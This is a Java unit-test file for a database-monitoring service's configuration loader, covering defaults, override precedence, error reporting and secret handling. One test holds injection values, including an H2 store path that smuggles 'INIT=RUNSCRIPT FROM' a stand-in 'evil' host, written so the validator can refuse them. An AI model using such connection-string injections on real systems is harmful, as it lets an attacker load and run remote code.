package io.dbwarden.app;

import static org.assertj.core.api.Assertions.assertThat;

import io.dbwarden.check.Interval;
import io.dbwarden.target.Engine;
import io.dbwarden.web.ApiToken;
import io.dbwarden.web.Role;
import io.dbwarden.web.TokenHash;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ConfigLoaderTest {

    private static final String HASH = "sha256:" + "ab".repeat(32);

    private static ServiceConfig load(String yaml) throws ConfigException {
        return ConfigLoader.parse("dbwarden.yaml", yaml, Map.of(), Map.of());
    }

    private static List<String> problems(String yaml, Map<String, String> env, Map<Setting, String> flags) {
        try {
            ConfigLoader.parse("dbwarden.yaml", yaml, env, flags);
        } catch (ConfigException e) {
            return e.problems().stream().map(ConfigProblem::toString).toList();
        }
        throw new AssertionError("expected the configuration to be refused");
    }

    private static List<String> problems(String yaml) {
        return problems(yaml, Map.of(), Map.of());
    }

    @Test
    void withoutAFileTheDefaultsServeAFreshMachine() throws Exception {
        ServiceConfig c = ConfigLoader.load(Optional.empty(), Map.of(), Map.of());
        Path data = Path.of("data").toAbsolutePath();
        assertThat(c.listen()).isEqualTo(new ListenAddress("127.0.0.1", 9650));
        assertThat(c.dataDir()).isEqualTo(data);
        assertThat(c.store()).isEqualTo(new StoreLocation.H2File(data.resolve("dbwarden")));
        assertThat(c.intervals()).isEqualTo(new IntervalLengths(Duration.ofHours(78), Duration.ofHours(24), Duration.ofHours(4)));
        assertThat(c.retention()).isEqualTo(Duration.ofDays(90));
        assertThat(c.maxConcurrentTargets()).isEqualTo(4);
        assertThat(c.routePrefix()).isEqualTo("/");
        assertThat(c.targets()).isEmpty();
        assertThat(c.authRequired()).isFalse();
        assertThat(c).isEqualTo(ServiceConfig.defaults());
    }

    @Test
    void theExampleConfigurationInTheRepositoryLoads() throws Exception {
        ServiceConfig c = ConfigLoader.load(Optional.of(Path.of("dbwarden.example.yaml")), Map.of(), Map.of());
        assertThat(c.targets()).extracting(TargetDefinition::name).containsExactly("orders-primary", "billing");
        TargetDefinition orders = c.targets().get(0);
        assertThat(orders.engine()).isEqualTo(Engine.POSTGRESQL);
        assertThat(orders.labels()).containsEntry("team", "orders").containsEntry("env", "prod");
        assertThat(orders.host().memoryBytes()).isEqualTo(64L << 30);
        assertThat(orders.host().cpus()).isEqualTo(16);
        assertThat(c.targets().get(1).host().nodeExporter()).hasToString("http://billing-db.example.com:9100/metrics");
        assertThat(c.alertmanagers()).hasSize(2);
        assertThat(c.alertmanagers().get(1).basicAuth()).map(b -> b.password().toString()).contains("env:ALERTMANAGER_PASSWORD");
        assertThat(c.tokens()).singleElement().satisfies(t -> assertThat(t.role()).isEqualTo(Role.VIEWER));
        assertThat(c.checks().overrides().get("postgresql_fdw_password_not_required").interval())
                .map(Interval::id).contains("frequent");
        assertThat(c.checks().overrides().get("postgresql_fdw_password_not_required").params())
                .containsEntry("ignore_users", List.of("replicator"));
    }

    @Test
    void anUnknownKeyIsRefusedAtItsLineAndColumn() {
        assertThat(problems("listen: 127.0.0.1:9650\nretension: 30d\n")).containsExactly(
                "dbwarden.yaml:2:1: unknown key 'retension' in the configuration (expected one of alertmanagers, auth, "
                        + "checks, data_dir, intervals, listen, max_concurrent_targets, retention, secrets, store, targets, web)");
        assertThat(problems("intervals:\n  rare: 78h\n  seldom: 100h\n"))
                .containsExactly("dbwarden.yaml:3:3: unknown key 'seldom' in 'intervals' (expected one of frequent, rare, standard)");
        assertThat(problems("targets:\n  - name: db1\n    dsn: postgresql://m@db1/postgres\n    lables: {env: prod}\n"))
                .singleElement().asString().startsWith("dbwarden.yaml:4:5: unknown key 'lables' in a target");
    }

    @Test
    void everyProblemIsReportedAtOnceEachAtItsValue() {
        assertThat(problems("listen: nowhere\nretention: 2h\nmax_concurrent_targets: 0\n")).containsExactly(
                "dbwarden.yaml:1:9: listen: listen address 'nowhere' must be HOST:PORT such as 127.0.0.1:9650 "
                        + "([::1]:9650 for IPv6, :9650 for every interface)",
                "dbwarden.yaml:2:12: retention: retention must be at least 1 day (e.g. 90d)",
                "dbwarden.yaml:3:25: max_concurrent_targets: max_concurrent_targets must be between 1 and 256");
    }

    @Test
    void invalidYamlIsReportedWithItsPosition() {
        assertThat(problems("listen: [127.0.0.1\n")).singleElement().asString().startsWith("dbwarden.yaml:2:1: invalid YAML");
        assertThat(problems("store: h2\nstore: h2\n")).containsExactly("dbwarden.yaml:2:1: duplicate key 'store' in the configuration");
    }

    @Test
    void theEnvironmentOverridesTheFileAndFlagsOverrideBoth() throws Exception {
        String yaml = "listen: 127.0.0.1:1111\nretention: 30d\nintervals: { rare: 100h }\n";
        ServiceConfig fileOnly = load(yaml);
        assertThat(fileOnly.listen().port()).isEqualTo(1111);

        Map<String, String> env = Map.of("DBWARDEN_LISTEN", "127.0.0.1:2222", "DBWARDEN_INTERVALS_RARE", "50h",
                "DBWARDEN_DATA_DIR", "/var/lib/dbwarden");
        ServiceConfig withEnv = ConfigLoader.parse("dbwarden.yaml", yaml, env, Map.of());
        assertThat(withEnv.listen().port()).isEqualTo(2222);
        assertThat(withEnv.intervals().rare()).isEqualTo(Duration.ofHours(50));
        assertThat(withEnv.retention()).isEqualTo(Duration.ofDays(30));
        assertThat(withEnv.store()).isEqualTo(new StoreLocation.H2File(Path.of("/var/lib/dbwarden/dbwarden")));

        ServiceConfig withFlags = ConfigLoader.parse("dbwarden.yaml", yaml, env,
                Map.of(Setting.LISTEN, "127.0.0.1:3333", Setting.DATA_DIR, "/srv/dbwarden"));
        assertThat(withFlags.listen().port()).isEqualTo(3333);
        assertThat(withFlags.dataDir()).isEqualTo(Path.of("/srv/dbwarden"));
    }

    @Test
    void theExampleConfigurationDocumentsEverySettingAndItsVariable() throws Exception {
        String example = Files.readString(Path.of("dbwarden.example.yaml"));
        for (Setting s : Setting.values()) {
            String leaf = s.path().substring(s.path().lastIndexOf('.') + 1);
            assertThat(example).as(s.path()).contains(leaf + ":");
            s.envVar().ifPresent(env -> assertThat(example).as(s.path()).contains(env));
        }
    }

    @Test
    void theConfigurationFileIsTheFlagsElseTheVariablesElseNone() {
        assertThat(ConfigLoader.configFile(Optional.of(Path.of("/etc/a.yaml")), Map.of("DBWARDEN_CONFIG", "/etc/b.yaml")))
                .contains(Path.of("/etc/a.yaml"));
        assertThat(ConfigLoader.configFile(Optional.empty(), Map.of("DBWARDEN_CONFIG", "/etc/b.yaml")))
                .contains(Path.of("/etc/b.yaml"));
        // the tests run in the repository root, which has dbwarden.example.yaml but no dbwarden.yaml
        assertThat(ConfigLoader.configFile(Optional.empty(), Map.of())).isEmpty();
    }

    @Test
    void everySettingButPerCheckOverridesHasAnEnvironmentVariable() {
        for (Setting s : Setting.values()) {
            assertThat(s.envVar().isPresent()).as(s.path()).isEqualTo(s != Setting.CHECK_OVERRIDES);
        }
        assertThat(Setting.ROUTE_PREFIX.envVar()).contains("DBWARDEN_WEB_ROUTE_PREFIX");
        assertThat(Setting.STORE.envVar()).contains("DBWARDEN_STORE");
        assertThat(Setting.AUTH_TOKENS.envVar()).contains("DBWARDEN_AUTH_TOKENS");
    }

    @Test
    void listsComeFromTheEnvironmentCommaSeparated() throws Exception {
        Map<String, String> env = Map.of(
                "DBWARDEN_TARGETS", "db1=postgresql://monitor@db1/postgres?password=env:DB1_PW, db2=mysql://monitor@db2/",
                "DBWARDEN_CHECKS_DISABLED", "mysql_a,postgresql_b",
                "DBWARDEN_CHECKS_DIRECTORIES", "/etc/dbwarden/checks",
                "DBWARDEN_ALERTMANAGERS", "http://am1:9093,http://am2:9093",
                "DBWARDEN_AUTH_TOKENS", "ci:operator:" + HASH);
        ServiceConfig c = ConfigLoader.parse("dbwarden.yaml", "targets:\n  - {name: old, dsn: 'mysql://m@old/'}\n", env, Map.of());
        assertThat(c.targets()).extracting(TargetDefinition::name).containsExactly("db1", "db2");
        assertThat(c.targets().get(1).engine()).isEqualTo(Engine.MYSQL);
        assertThat(c.checks().disabled()).containsExactly("mysql_a", "postgresql_b");
        assertThat(c.checks().directories()).containsExactly(Path.of("/etc/dbwarden/checks"));
        assertThat(c.alertmanagers()).extracting(a -> a.url().toString()).containsExactly("http://am1:9093", "http://am2:9093");
        assertThat(c.tokens()).containsExactly(new ApiToken("ci", Role.OPERATOR, TokenHash.parse(HASH)));
    }

    @Test
    void aBadEnvironmentValueIsReportedByTheVariableName() {
        assertThat(problems("", Map.of("DBWARDEN_RETENTION", "forever"), Map.of())).singleElement().asString()
                .startsWith("environment variable DBWARDEN_RETENTION: retention: Invalid duration \"forever\"");
        assertThat(problems("", Map.of(), Map.of(Setting.LISTEN, "x"))).singleElement().asString()
                .startsWith("flag --listen: listen: listen address 'x'");
    }

    @Test
    void listeningBeyondLoopbackWithoutAuthIsRefused() {
        assertThat(problems("listen: 0.0.0.0:9650\n")).containsExactly("dbwarden.yaml:1:9: refusing to listen on "
                + "0.0.0.0:9650 without authentication: anyone who can reach it could change targets and read findings. "
                + "Listen on 127.0.0.1, or configure auth.tokens");
        assertThat(problems("", Map.of("DBWARDEN_LISTEN", ":9650"), Map.of())).singleElement().asString()
                .startsWith("environment variable DBWARDEN_LISTEN: refusing to listen on :9650 without authentication");
    }

    @Test
    void listeningBeyondLoopbackWithTokensIsAllowed() throws Exception {
        ServiceConfig c = load("listen: ':9650'\nauth:\n  tokens:\n    - {name: ops, role: admin, hash: '" + HASH + "'}\n");
        assertThat(c.listen().isLoopback()).isFalse();
        assertThat(c.authRequired()).isTrue();
        assertThat(c.tokens().get(0).hash()).isNotEqualTo(TokenHash.of("wrong"));
    }

    @Test
    void loopbackIsDecidedFromTheAddressText() {
        assertThat(ListenAddress.parse("localhost:9650").isLoopback()).isTrue();
        assertThat(ListenAddress.parse("127.0.0.2:9650").isLoopback()).isTrue();
        assertThat(ListenAddress.parse("[::1]:9650").isLoopback()).isTrue();
        assertThat(ListenAddress.parse("[::]:9650").isLoopback()).isFalse();
        assertThat(ListenAddress.parse("db.example.com:9650").isLoopback()).isFalse();
        assertThat(ListenAddress.parse("[::1]:9650")).hasToString("[::1]:9650");
    }

    @Test
    void anInlineTargetPasswordIsRefusedWithoutRepeatingIt() {
        List<String> problems = problems("targets:\n  - name: db1\n    dsn: postgresql://monitor:Sup3rSecret@db1/postgres\n");
        assertThat(problems).containsExactly("dbwarden.yaml:3:10: target 'db1': the DSN holds a password inline; give it "
                + "by reference: ?password=env:NAME or ?password=file:PATH");
        assertThat(problems("targets:\n  - {name: db1, dsn: 'mysql://m@db1/?password=Sup3rSecret'}\n"))
                .singleElement().asString().doesNotContain("Sup3rSecret").contains("holds a password inline");
        assertThat(problems("", Map.of("DBWARDEN_TARGETS", "db1=mysql://m:Sup3rSecret@db1/"), Map.of()))
                .singleElement().asString().doesNotContain("Sup3rSecret").contains("holds a password inline");
    }

    @Test
    void targetNamesMustBeLabelSafe() {
        assertThat(problems("targets:\n  - {name: 'db 1', dsn: 'mysql://m@db1/'}\n")).singleElement().asString()
                .startsWith("dbwarden.yaml:2:5: target name 'db 1' must start with a letter or '_'");
        assertThat(problems("targets:\n  - {name: 1db, dsn: 'mysql://m@db1/'}\n")).hasSize(1);
        assertThat(problems("targets:\n  - {name: db1, dsn: 'mysql://m@a/'}\n  - {name: db1, dsn: 'mysql://m@b/'}\n"))
                .containsExactly("configuration: target 'db1' is defined twice");
    }

    @Test
    void targetLabelsFollowPrometheusAndCannotShadowDbwardensOwn() {
        assertThat(problems("targets:\n  - {name: db1, dsn: 'mysql://m@db1/', labels: {severity: low}}\n"))
                .containsExactly("dbwarden.yaml:2:49: label 'severity' is set by dbwarden on every alert; choose another name");
        assertThat(problems("targets:\n  - {name: db1, dsn: 'mysql://m@db1/', labels: {team-name: x}}\n"))
                .singleElement().asString().contains("label name 'team-name' must match");
    }

    @Test
    void hostFactsAreCheckedWithTheNamesOfTheFile() {
        assertThat(problems("targets:\n  - {name: db1, dsn: 'mysql://m@db1/', host: {memory: lots}}\n"))
                .singleElement().asString().startsWith("dbwarden.yaml:2:46: memory: Invalid byte size \"lots\"");
        assertThat(problems("targets:\n  - {name: db1, dsn: 'mysql://m@db1/', host: {cpus: many}}\n"))
                .containsExactly("dbwarden.yaml:2:53: cpus must be a whole number");
    }

    @Test
    void aTokenHashMustBeSha256Hex() {
        assertThat(problems("auth:\n  tokens:\n    - {name: ci, role: viewer, hash: my-secret-token}\n"))
                .singleElement().asString().startsWith("dbwarden.yaml:3:38: a token hash must be sha256:")
                .doesNotContain("my-secret-token");
        assertThat(problems("auth:\n  tokens:\n    - {name: ci, role: root, hash: '" + HASH + "'}\n"))
                .containsExactly("dbwarden.yaml:3:24: unknown role 'root' (expected viewer, operator, admin)");
    }

    @Test
    void aTokenInTheEnvironmentIsNameRoleAndHash() throws Exception {
        ServiceConfig c = ConfigLoader.parse("dbwarden.yaml", "", Map.of("DBWARDEN_AUTH_TOKENS", "ci:operator:" + HASH),
                Map.of());
        assertThat(c.tokens()).containsExactly(new ApiToken("ci", Role.OPERATOR, TokenHash.parse(HASH)));
    }

    @Test
    void aPostgresqlStoreTakesItsPasswordByReferenceOnly() throws Exception {
        ServiceConfig c = load("store: postgresql://dbwarden@db.example.com/dbwarden?password=env:STORE_PW&sslmode=verify-full\n");
        StoreLocation.Postgres pg = (StoreLocation.Postgres) c.store();
        assertThat(pg.host()).isEqualTo("db.example.com");
        assertThat(pg.port()).isEqualTo(5432);
        assertThat(pg.user()).isEqualTo("dbwarden");
        assertThat(pg.password()).contains(SecretRef.parse("env:STORE_PW"));
        assertThat(pg.tls()).containsEntry("sslmode", "verify-full");
        assertThat(problems("store: postgresql://dbwarden:hunter22@db/dbwarden\n")).singleElement().asString()
                .contains("holds a password inline").doesNotContain("hunter22");
        assertThat(problems("store: postgresql://dbwarden@db/dbwarden?password=hunter22\n")).singleElement().asString()
                .contains("by reference").doesNotContain("hunter22");
        assertThat(problems("store: postgresql://dbwarden@db/dbwarden?sslmod=require\n")).singleElement().asString()
                .contains("unknown parameter 'sslmod'");
        assertThat(problems("store: jdbc:h2:mem:x\n")).singleElement().asString()
                .startsWith("dbwarden.yaml:1:8: store: store must be 'h2', 'h2:PATH' or a URL");
    }

    @Test
    void aStoreLocationCannotSmuggleSettingsIntoTheDriversUrl() {
        assertThat(problems("store: \"h2:/tmp/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'\"\n")).singleElement().asString()
                .contains("the H2 store path must not contain ';'");
        assertThat(problems("store: postgresql://u@db/x%3FsocketFactory=y\n")).singleElement().asString()
                .contains("store database name 'x?socketFactory=y' must be");
    }

    @Test
    void anH2StorePathIsUnderTheDataDirectoryUnlessAbsolute() throws Exception {
        assertThat(load("data_dir: /d\nstore: h2:other.mv.db\n").store()).isEqualTo(new StoreLocation.H2File(Path.of("/d/other")));
        assertThat(load("data_dir: /d\nstore: h2:/elsewhere/x\n").store()).isEqualTo(new StoreLocation.H2File(Path.of("/elsewhere/x")));
    }

    @Test
    void anAlertmanagerTakesOneKindOfCredentialsAndNoneInItsUrl() {
        assertThat(problems("alertmanagers:\n  - url: http://am:9093\n    basic_auth: {username: u, password: env:P}\n"
                + "    bearer_token: env:T\n")).containsExactly(
                "dbwarden.yaml:2:5: an Alertmanager takes basic_auth or bearer_token, not both");
        assertThat(problems("alertmanagers:\n  - http://u:pw@am:9093\n")).singleElement().asString()
                .contains("must not carry credentials");
        assertThat(problems("alertmanagers:\n  - url: http://am:9093\n    basic_auth: {username: u, password: plain}\n"))
                .singleElement().asString().contains("by reference").doesNotContain("plain");
        assertThat(problems("alertmanagers:\n  - url: http://am:9093\n    tls_config: {cert_file: /c.pem}\n"))
                .singleElement().asString().contains("cert_file and key_file together");
    }

    @Test
    void checkNamesInDisabledAndOverridesMustBeCheckNames() {
        assertThat(problems("checks:\n  disabled: [Bad-Name]\n")).singleElement().asString()
                .startsWith("dbwarden.yaml:2:14: checks.disabled: 'Bad-Name' is not a check name");
        assertThat(problems("checks:\n  overrides:\n    mysql_x: {interval: sometimes}\n")).singleElement().asString()
                .startsWith("dbwarden.yaml:3:25: interval 'sometimes' is neither rare, standard, frequent nor a duration");
    }

    @Test
    void theRoutePrefixIsNormalized() throws Exception {
        assertThat(load("web: {route_prefix: alertmanager/}\n").routePrefix()).isEqualTo("/alertmanager");
        assertThat(problems("web: {route_prefix: '/a/../b'}\n")).hasSize(1);
    }

    @Test
    void aMissingOrHugeFileIsAClearError(@TempDir Path dir) throws Exception {
        Path missing = dir.resolve("nope.yaml");
        assertThatProblems(missing).containsExactly(missing + ": no such configuration file");
        Path huge = dir.resolve("huge.yaml");
        Files.writeString(huge, "#".repeat((int) ConfigLoader.MAX_FILE_BYTES + 1));
        assertThatProblems(huge).singleElement().asString().contains("larger than");
    }

    private static org.assertj.core.api.ListAssert<String> assertThatProblems(Path file) {
        try {
            ConfigLoader.load(Optional.of(file), Map.of(), Map.of());
        } catch (ConfigException e) {
            return assertThat(e.problems().stream().map(ConfigProblem::toString).toList());
        }
        throw new AssertionError("expected the configuration to be refused");
    }
}
